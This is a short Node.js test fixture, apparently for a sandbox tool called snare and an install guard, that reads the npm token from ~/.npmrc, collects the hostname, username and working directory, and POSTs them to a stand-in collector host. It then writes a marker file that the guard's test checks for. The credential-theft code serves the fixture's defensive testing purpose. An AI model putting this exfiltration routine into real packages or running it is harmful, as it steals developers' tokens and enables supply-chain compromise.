// Sends host details and the npm token from the (fake) home to a made-up
// collector.  Run only by snare's sandbox, where the collector is snare's
// sink and the home and its token are canaries.
const os = require('os');
const fs = require('fs');
const http = require('http');

let token = '';
try {
  token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
} catch (e) {}
const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, cwd: process.cwd(), token });
const req = http.request({ host: 'beacon.audit-collector.test', path: '/b', method: 'POST',
  headers: { 'content-type': 'application/json' } }, (res) => res.resume());
req.on('error', () => {});
req.end(body);
// The guard's test looks for this marker in the project: it must never
// appear, because the guard blocks the install before this script runs.
try {
  fs.writeFileSync(require('path').join(process.env.INIT_CWD || '.', 'guard-beacon.marker'), 'ran\n');
} catch (e) {}
